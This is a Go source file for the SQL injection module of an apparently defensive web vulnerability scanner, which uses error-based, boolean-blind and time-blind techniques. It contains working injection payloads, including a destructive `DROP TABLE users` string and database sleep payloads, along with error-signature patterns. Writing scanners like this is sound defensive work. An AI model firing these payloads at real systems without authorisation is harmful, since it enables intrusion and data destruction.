// Package sqli detects SQL injection through three complementary
// techniques: database error disclosure, boolean-blind response
// divergence, and time-blind induced delays.
package sqli

import (
	"context"
	"fmt"
	"log/slog"
	"net/url"
	"regexp"
	"time"

	"github.com/websentry/websentry/pkg/defaults"
	"github.com/websentry/websentry/pkg/duration"
	"github.com/websentry/websentry/pkg/finding"
	"github.com/websentry/websentry/pkg/probe"
)

// payloads is the error-based injection set. Blind techniques use
// their own dedicated pairs and delay payloads below.
var payloads = []string{
	`' OR '1'='1`,
	`' OR 1=1--`,
	`" OR "1"="1`,
	`' OR '1'='1' --`,
	`admin'--`,
	`' UNION SELECT NULL--`,
	`' UNION SELECT NULL,NULL--`,
	`' UNION SELECT NULL,NULL,NULL--`,
	`1' AND '1'='1`,
	`'; DROP TABLE users--`,
	`1' ORDER BY 1--`,
	`1' ORDER BY 100--`,
	`' AND 1=CONVERT(int,@@version)--`,
	`1 AND 1=1`,
	`1 AND 1=2`,
	`')) OR 1=1--`,
}

// timePayloads induce a measurable delay per DBMS family.
var timePayloads = []string{
	`' AND SLEEP(5)--`,
	`'; WAITFOR DELAY '0:0:5'--`,
	`' AND pg_sleep(5)--`,
	`1' AND BENCHMARK(5000000,MD5('A'))--`,
}

// booleanTrue and booleanFalse form the divergence pair. A backend
// that evaluates them differently is interpolating the input into SQL.
const (
	booleanTrue  = `1' AND '1'='1`
	booleanFalse = `1' AND '1'='2`
)

// params are the query parameters commonly backed by database lookups.
var params = []string{"id", "user", "search", "page"}

// errorPatterns match database error disclosure across the major engines.
var errorPatterns = []*regexp.Regexp{
	regexp.MustCompile(`(?i)SQL syntax.*MySQL`),
	regexp.MustCompile(`(?i)Warning.*mysql_`),
	regexp.MustCompile(`(?i)MySqlException`),
	regexp.MustCompile(`(?i)valid MySQL result`),
	regexp.MustCompile(`(?i)PostgreSQL.*ERROR`),
	regexp.MustCompile(`(?i)pg_query`),
	regexp.MustCompile(`(?i)PSQLException`),
	regexp.MustCompile(`(?i)Microsoft SQL Server`),
	regexp.MustCompile(`(?i)ODBC SQL Server Driver`),
	regexp.MustCompile(`(?i)SqlException`),
	regexp.MustCompile(`(?i)unclosed quotation mark`),
	regexp.MustCompile(`ORA-[0-9]{4,5}`),
	regexp.MustCompile(`(?i)Oracle error`),
	regexp.MustCompile(`(?i)SQLite3?::|SQLITE_ERROR`),
	regexp.MustCompile(`(?i)sqlite3\.OperationalError`),
	regexp.MustCompile(`(?i)syntax error`),
}

// Config controls scanner behavior.
type Config struct {
	// Params overrides the parameters to inject into.
	Params []string

	// TimeThreshold is the minimum induced delay that confirms
	// time-blind injection. Defaults to duration.SQLiTimeThreshold.
	TimeThreshold time.Duration

	// LengthDelta is the body length divergence, in bytes, that
	// confirms boolean-blind injection.
	LengthDelta int

	// Logger receives per-probe debug output. Nil disables logging.
	Logger *slog.Logger
}

// Scanner probes targets for SQL injection.
type Scanner struct {
	probe         probe.Func
	params        []string
	timeThreshold time.Duration
	lengthDelta   int
	logger        *slog.Logger
}

// New creates a Scanner that issues requests through fetch.
func New(fetch probe.Func, cfg Config) *Scanner {
	p := cfg.Params
	if len(p) == 0 {
		p = params
	}
	threshold := cfg.TimeThreshold
	if threshold == 0 {
		threshold = duration.SQLiTimeThreshold
	}
	delta := cfg.LengthDelta
	if delta == 0 {
		delta = defaults.BooleanLengthDelta
	}
	logger := cfg.Logger
	if logger == nil {
		logger = slog.New(slog.DiscardHandler)
	}
	return &Scanner{
		probe:         fetch,
		params:        p,
		timeThreshold: threshold,
		lengthDelta:   delta,
		logger:        logger,
	}
}

// Scan runs all three detection techniques against target. Transport
// errors on individual probes are skipped; context cancellation aborts.
func (s *Scanner) Scan(ctx context.Context, target string) ([]finding.Vulnerability, error) {
	base, err := url.Parse(target)
	if err != nil {
		return nil, fmt.Errorf("parse target: %w", err)
	}

	var vulns []finding.Vulnerability

	errorVulns, err := s.scanErrorBased(ctx, base)
	if err != nil {
		return vulns, err
	}
	vulns = append(vulns, errorVulns...)

	boolVulns, err := s.scanBooleanBlind(ctx, base)
	if err != nil {
		return vulns, err
	}
	vulns = append(vulns, boolVulns...)

	timeVulns, err := s.scanTimeBlind(ctx, base)
	if err != nil {
		return vulns, err
	}
	vulns = append(vulns, timeVulns...)

	return vulns, nil
}

// scanErrorBased injects each payload into each parameter and looks
// for database error signatures in the response body.
func (s *Scanner) scanErrorBased(ctx context.Context, base *url.URL) ([]finding.Vulnerability, error) {
	var vulns []finding.Vulnerability

	for _, param := range s.params {
		select {
		case <-ctx.Done():
			return vulns, ctx.Err()
		default:
		}

		for _, payload := range payloads {
			testURL := injectParam(base, param, payload)
			resp, err := s.probe(ctx, testURL)
			if err != nil {
				if ctx.Err() != nil {
					return vulns, ctx.Err()
				}
				s.logger.Debug("probe failed", slog.String("url", testURL), slog.String("error", err.Error()))
				continue
			}

			if sig := matchErrorSignature(resp.BodyString()); sig != "" {
				vulns = append(vulns, buildFinding(base.String(), param, finding.Critical,
					"SQL Injection (Error-Based)",
					fmt.Sprintf("Parameter %q leaks a database error when injected with %q.", param, payload),
					map[string]any{
						"payload":   payload,
						"signature": sig,
						"technique": "error",
					}))
				// One error-based finding per parameter.
				break
			}
		}
	}

	return vulns, nil
}

// scanBooleanBlind sends the true/false condition pair per parameter
// and flags divergent responses.
func (s *Scanner) scanBooleanBlind(ctx context.Context, base *url.URL) ([]finding.Vulnerability, error) {
	var vulns []finding.Vulnerability

	for _, param := range s.params {
		select {
		case <-ctx.Done():
			return vulns, ctx.Err()
		default:
		}

		trueResp, err := s.probe(ctx, injectParam(base, param, booleanTrue))
		if err != nil {
			if ctx.Err() != nil {
				return vulns, ctx.Err()
			}
			continue
		}
		falseResp, err := s.probe(ctx, injectParam(base, param, booleanFalse))
		if err != nil {
			if ctx.Err() != nil {
				return vulns, ctx.Err()
			}
			continue
		}

		lenDiff := len(trueResp.Body) - len(falseResp.Body)
		if lenDiff < 0 {
			lenDiff = -lenDiff
		}
		if trueResp.StatusCode != falseResp.StatusCode || lenDiff > s.lengthDelta {
			vulns = append(vulns, buildFinding(base.String(), param, finding.High,
				"SQL Injection (Boolean-Blind)",
				fmt.Sprintf("Parameter %q returns divergent responses for logically different conditions.", param),
				map[string]any{
					"true_status":  trueResp.StatusCode,
					"false_status": falseResp.StatusCode,
					"length_delta": lenDiff,
					"technique":    "boolean",
				}))
		}
	}

	return vulns, nil
}

// scanTimeBlind injects delay payloads and flags a response that takes
// longer than the threshold. Each probe costs the full delay, so the
// first confirmed parameter ends the technique for this URL.
func (s *Scanner) scanTimeBlind(ctx context.Context, base *url.URL) ([]finding.Vulnerability, error) {
	for _, param := range s.params {
		select {
		case <-ctx.Done():
			return nil, ctx.Err()
		default:
		}

		for _, payload := range timePayloads {
			testURL := injectParam(base, param, payload)
			resp, err := s.probe(ctx, testURL)
			if err != nil {
				if ctx.Err() != nil {
					return nil, ctx.Err()
				}
				continue
			}

			if resp.Duration > s.timeThreshold {
				return []finding.Vulnerability{buildFinding(base.String(), param, finding.High,
					"SQL Injection (Time-Blind)",
					fmt.Sprintf("Parameter %q delays the response when injected with a sleep payload.", param),
					map[string]any{
						"payload":     payload,
						"response_ms": resp.Duration.Milliseconds(),
						"technique":   "time",
					})}, nil
			}
		}
	}

	return nil, nil
}

func injectParam(base *url.URL, param, payload string) string {
	u := *base
	q := u.Query()
	q.Set(param, payload)
	u.RawQuery = q.Encode()
	return u.String()
}

// matchErrorSignature returns the first matching error pattern, or "".
func matchErrorSignature(body string) string {
	for _, re := range errorPatterns {
		if m := re.FindString(body); m != "" {
			return m
		}
	}
	return ""
}

func buildFinding(target, param string, sev finding.Severity, title, desc string, evidence map[string]any) finding.Vulnerability {
	return finding.Vulnerability{
		ID:          finding.NewID(),
		Type:        finding.SQLInjection,
		Severity:    sev,
		Title:       title,
		Description: desc,
		Location: finding.Location{
			URL:       target,
			Component: "parameter " + param,
		},
		Impact:         "Attackers can read, modify, or delete database contents and may escalate to full system compromise.",
		Recommendation: "Use parameterized queries exclusively. Never concatenate user input into SQL statements.",
		References: []string{
			"https://owasp.org/www-community/attacks/SQL_Injection",
			"https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
		},
		DiscoveredAt: time.Now(),
		Status:       finding.StatusNew,
		Evidence:     evidence,
	}
}
